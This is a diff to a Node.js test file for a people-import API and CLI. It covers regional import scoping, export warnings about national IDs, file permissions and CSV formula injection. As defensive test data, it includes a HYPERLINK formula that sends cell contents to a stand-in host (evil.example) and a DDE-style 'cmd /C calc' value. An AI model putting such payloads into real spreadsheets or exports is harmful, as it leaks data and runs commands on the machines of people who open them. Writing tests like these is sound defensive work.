@@ -2,7 +2,7 @@
 // reports naming every bad row, dry runs, duplicates, quoting and BOMs.
 import { test, before, after } from 'node:test';
 import assert from 'node:assert/strict';
-import { writeFileSync, readFileSync } from 'node:fs';
+import { writeFileSync, readFileSync, statSync, existsSync } from 'node:fs';
 import { join } from 'node:path';
 import { createHash } from 'node:crypto';
 import { startServer, cleanup, makeIin } from './harness.mjs';
@@ -163,17 +163,37 @@ test('hq_staff import only into their region; other roles cannot import people',
   assert.equal((await aud.call('POST', '/api/v1/people/import', HEADER, { 'content-type': 'text/csv' })).status, 403);
 });
 
+test('an IIN registered outside a scoped importer\'s region is refused without naming the person', async () => {
+  const iin = makeIin(1979, 3, 14, 501);
+  const east = await upload('/api/v1/people/import', [HEADER, row({ iin, year: 1979, month: 3, day: 14, region: 'IMP-EAST' })].join('\n'));
+  assert.equal(east.status, 201, JSON.stringify(east.body));
+  const west = await server.account(admin, 'imp-hq-west', 'hq_staff', { region: 'IMP-WEST' });
+  const again = [HEADER, row({ iin, year: 1979, month: 3, day: 14, region: 'IMP-WEST' })].join('\n');
+  const r = await west.call('POST', '/api/v1/people/import?dry_run=true', again, { 'content-type': 'text/csv' });
+  assert.equal(r.status, 422);
+  assert.equal(r.body.report.problems[0].column, 'iin');
+  assert.match(r.body.report.problems[0].message, /already registered outside your region/);
+  assert.doesNotMatch(JSON.stringify(r.body), /person \d+/);
+  // Whoever may see the person is told which one it is.
+  const a = await upload('/api/v1/people/import?dry_run=true', again);
+  assert.match(a.body.report.problems[0].message, /already registered \(person \d+\)/);
+});
+
 test('the CLI imports, dry-runs, rejects with every bad row and exports what it imported', async () => {
   const file = join(server.db.dir, 'people.csv');
-  writeFileSync(file, [HEADER, row({ family: 'Клиев', skills: 'radio' }), row({ family: 'Клиева', given: 'Дана' })].join('\n'));
+  // A name a spreadsheet would run as a formula (fictional, hostile on purpose).
+  const formula = '=HYPERLINK("http://evil.example/?"&A1,"Open")';
+  writeFileSync(file, [HEADER, row({ family: 'Клиев', skills: 'radio' }), row({ family: 'Клиева', given: 'Дана' }),
+    row({ family: '"' + formula.replaceAll('"', '""') + '"', given: "+cmd|' /C calc'!A0" })].join('\n'));
   let c = server.cli(['import', 'people', file, '--dry-run']);
   assert.equal(c.code, 0, c.stderr);
-  assert.match(c.stdout, /2 people would be imported/);
+  assert.match(c.stdout, /3 people would be imported/);
   assert.equal(sql(server.db.url, "SELECT COUNT(*) FROM people WHERE family_name LIKE 'Клиев%'"), '0');
   c = server.cli(['import', 'people', file]);
   assert.equal(c.code, 0, c.stderr);
-  assert.match(c.stdout, /imported 2 people/);
+  assert.match(c.stdout, /imported 3 people/);
   assert.equal(sql(server.db.url, "SELECT COUNT(*) FROM people WHERE family_name LIKE 'Клиев%'"), '2');
+  assert.equal(sql(server.db.url, "SELECT given_name FROM people WHERE family_name LIKE '=HYPERLINK%'"), "+cmd|' /C calc'!A0");
 
   const bad = join(server.db.dir, 'bad.csv');
   writeFileSync(bad, [HEADER, row({ iin: '123' }), row(), row({ status: 'x' })].join('\n'));
@@ -187,7 +207,17 @@ test('the CLI imports, dry-runs, rejects with every bad row and exports what it 
   const out = join(server.db.dir, 'export.csv');
   c = server.cli(['export', 'people', '--out', out]);
   assert.equal(c.code, 0, c.stderr);
+  assert.match(c.stderr, /warning: this export holds every person's national ID \(IIN\)/);
+  // Personal data is readable by its owner only: the export and the database with its WAL.
+  assert.equal(statSync(out).mode & 0o777, 0o600);
+  if (server.db.url.startsWith('sqlite:')) {
+    const dbFile = server.db.url.slice('sqlite:'.length);
+    for (const f of [dbFile, dbFile + '-wal', dbFile + '-shm'])
+      if (existsSync(f)) assert.equal(statSync(f).mode & 0o777, 0o600, f);
+  }
   const exported = readFileSync(out, 'utf8').split('\r\n');
+  // Formulas are written as text (a leading apostrophe), and come back unchanged below.
+  assert.ok(exported.some((l) => l.startsWith('"\'=HYPERLINK(""http://evil.example/?""&A1,""Open"")",\'+cmd|')), exported.find((l) => l.includes('HYPERLINK')));
   assert.equal(exported[0], 'family_name,given_name,patronymic,birth_date,iin,phone,email,region,status,skills');
   const total = Number(sql(server.db.url, 'SELECT COUNT(*) FROM people'));
   assert.equal(exported.filter((l) => l).length, total + 1);
@@ -202,6 +232,8 @@ test('the CLI imports, dry-runs, rejects with every bad row and exports what it 
     c = fresh.cli(['import', 'people', out]);
     assert.equal(c.code, 0, c.stderr.slice(0, 500));
     assert.equal(Number(sql(fresh.db.url, 'SELECT COUNT(*) FROM people')), total);
+    assert.equal(sql(fresh.db.url, "SELECT family_name || ' / ' || given_name FROM people WHERE family_name LIKE '=HYPERLINK%'"),
+      `${formula} / +cmd|' /C calc'!A0`);
   } finally { await fresh.stop(); cleanup(fresh); }
 });
 
